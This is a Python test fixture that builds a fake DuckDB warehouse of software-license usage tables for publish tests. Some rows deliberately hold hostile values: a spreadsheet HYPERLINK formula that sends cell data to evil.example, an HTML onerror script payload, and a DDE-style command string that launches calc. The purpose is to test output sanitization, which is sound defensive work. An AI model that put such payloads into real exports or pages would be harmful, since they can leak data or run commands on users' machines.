"""A small warehouse with tables named and shaped like the marts (schema ``marts``).

The real marts are built by dbt in the demo test; this one lets the publish tests run fast
and carries hostile values (formula injection, HTML) on purpose.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import duckdb

HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_HTML = '<img src=x onerror="window.__pwned=1">'

# One statement per mart; generate_series keeps the data deterministic and tiny.
FAKE_MARTS = {
    "inactive_users": """
        SELECT 'u' || i AS user_key, 'u' || i || '@example.com' AS email,
               CASE WHEN i = 1 THEN '{formula}' ELSE 'User ' || i END AS full_name,
               CASE WHEN i % 2 = 0 THEN 'Team A' ELSE 'Team B' END AS team_name,
               CASE WHEN i = 2 THEN '{html}' WHEN i % 3 = 0 THEN 'Design' ELSE 'Unmapped' END AS department,
               CASE WHEN i % 4 = 0 THEN NULL ELSE DATE '2026-09-01' + i::INT END AS last_used_date,
               CASE WHEN i % 4 = 0 THEN NULL ELSE 40 + i END AS days_since_last_use,
               '-1+2' AS offerings_assigned, i % 3 <> 0 AS is_assigned, 30 AS inactive_days, DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 12) t(i)""",
    "flex_candidates": """
        SELECT 'u' || i AS user_key, CASE WHEN i % 2 = 0 THEN 'Revit' ELSE 'AutoCAD' END AS product_name,
               i AS usage_days, i * 30.0 / 90 AS avg_days_per_month, 1000.0 + i AS subscription_price_yearly,
               300.0 + i AS flex_cost_yearly_estimate, 700.0 AS saving_yearly, 90 AS lookback_days,
               DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 6) t(i)""",
    "flex_overuse": """
        SELECT 'u' || i AS user_key, 'Civil 3D' AS product_name, DATE '2026-10-01' AS usage_month,
               'flex' AS licensing, 9 + i AS usage_days, 100.0 * i AS tokens, 300.0 * i AS token_cost,
               249.17 AS subscription_price_monthly, 8 AS break_even_days, 300.0 * i - 249.17 AS excess_cost,
               DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 3) t(i)""",
    "low_usage_users": """
        SELECT 'u' || i AS user_key, 'AutoCAD' AS product_name, DATE '2026-10-01' AS usage_month, i AS usage_days,
               'subscription' AS licensing, DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 5) t(i)""",
    "flex_multi_product_daily": """
        SELECT 'u1' AS user_key, DATE '2026-10-01' AS usage_month, 6 AS multi_product_days, 3 AS distinct_products,
               'AutoCAD; Revit' AS products_used, DATE '2026-11-20' AS as_of_date""",
    "single_product_collection_users": """
        SELECT 'u' || i AS user_key, 'AEC Collection' AS collection_name,
               CASE WHEN i = 1 THEN 'single_product' ELSE 'infrequent' END AS reason, 'Revit' AS product_name,
               3675.0 AS collection_price_yearly, DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 4) t(i)""",
    "collection_candidates": """
        SELECT 'u' || i AS user_key, 'AEC Collection' AS collection_name, 'AutoCAD; Revit' AS products_used,
               2 AS distinct_products, 5020.0 AS current_cost_yearly, 3675.0 AS collection_price_yearly,
               1345.0 AS saving_yearly, DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 2) t(i)""",
    "license_utilization": """
        SELECT CASE WHEN i % 2 = 0 THEN 'Team A' ELSE 'Team B' END AS team_name,
               CASE WHEN i < 3 THEN 'AEC Collection' ELSE 'AutoCAD' END AS offering_name,
               10 AS seats_purchased, 8 AS seats_assigned, 5 AS seats_in_use, 2 AS seats_unassigned,
               50.0 AS utilization_pct, DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 4) t(i)""",
    "license_utilization_by_org": """
        SELECT 'Team A' AS team_name, 'AutoCAD' AS offering_name,
               CASE WHEN i % 2 = 0 THEN 'EMEA' ELSE 'AMER' END AS geo, 'FR' AS country, 'Paris' AS city,
               CASE WHEN i < 3 THEN 'Design' ELSE 'Engineering' END AS department,
               4 AS seats_assigned, i % 4 AS seats_in_use, DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 4) t(i)""",
    "project_version_drift": """
        SELECT 'Tower' AS project, 'Revit' AS product_name, v AS version, 3 AS users, v = '2026' AS is_latest_version,
               DATE '2026-11-20' AS as_of_date
        FROM (VALUES ('2025'), ('2026')) t(v)""",
    "usage_by_cost_center": """
        SELECT 'CC' || (i % 3) AS cost_center, 'u' || i AS user_key, 'AutoCAD' AS product_name,
               DATE '2026-10-01' AS usage_month, i AS usage_days, 10.0 * i AS tokens, 'flex' AS licensing,
               DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 9) t(i)""",
    "flex_usage_by_cost_center": """
        SELECT 'CC' || (i % 3) AS cost_center, 'Design' AS department, 'u' || i AS user_key,
               DATE '2026-10-01' AS usage_month, 10.0 * i AS tokens, i AS usage_days, 30.0 * i AS token_cost,
               DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 6) t(i)""",
    "token_balance": """
        SELECT '110001' AS contract_number, y AS contract_year,
               (DATE '2025-09-01' + INTERVAL (y - 1) YEAR)::DATE AS year_start_date,
               DATE '2026-08-31' + INTERVAL (y - 1) YEAR AS year_end_date,  -- a TIMESTAMP on purpose
               100000.0 AS provisioned_tokens, 40000.0 * y AS consumed_tokens, 100000.0 - 40000.0 * y AS remaining_tokens,
               150.0 AS avg_daily_burn, DATE '2026-11-20' + 133 AS projected_run_out_date,
               DATE '2026-11-20' AS as_of_date
        FROM generate_series(1, 3) t(y)""",
    # not a use case mart: published, table only (no chart); has types BI tools need converted
    "unmapped_users": """
        SELECT 'u' || i AS user_key, i::HUGEINT AS usage_days, [i, i + 1] AS sample_list,
               (i * 1.5)::DECIMAL(38, 2) AS big_decimal, TIMESTAMPTZ '2026-11-20 10:00:00+00' AS seen_at,
               'line one' || chr(10) || 'line "two", with comma' AS note,
               (i / 3)::FLOAT AS ratio32, i::TINYINT AS tiny, i::UINTEGER AS unsigned_int,
               [NULL, '@SUM(1+1)*cmd|'' /C calc''!A0', chr(9) || '=1+1', chr(13) || '=1+1'][i + 1] AS tricky
        FROM generate_series(1, 3) t(i)""",
}


def make_fake_warehouse(path: Path, marts: dict[str, str] | None = None) -> dict[str, int]:
    """Create ``path`` with the given marts; returns rows per mart."""
    marts = FAKE_MARTS if marts is None else marts
    path.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(path))
    try:
        con.execute("CREATE SCHEMA IF NOT EXISTS marts")
        for name, sql in marts.items():
            body = sql.replace("{formula}", HOSTILE_FORMULA.replace("'", "''")).replace("{html}", HOSTILE_HTML)
            con.execute(f'CREATE OR REPLACE TABLE marts."{name}" AS {body}')
        return {name: con.execute(f'SELECT count(*) FROM marts."{name}"').fetchone()[0] for name in marts}
    finally:
        con.close()


def require_all() -> bool:
    return os.environ.get("APS_USAGE_REQUIRE_ALL") == "1"


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
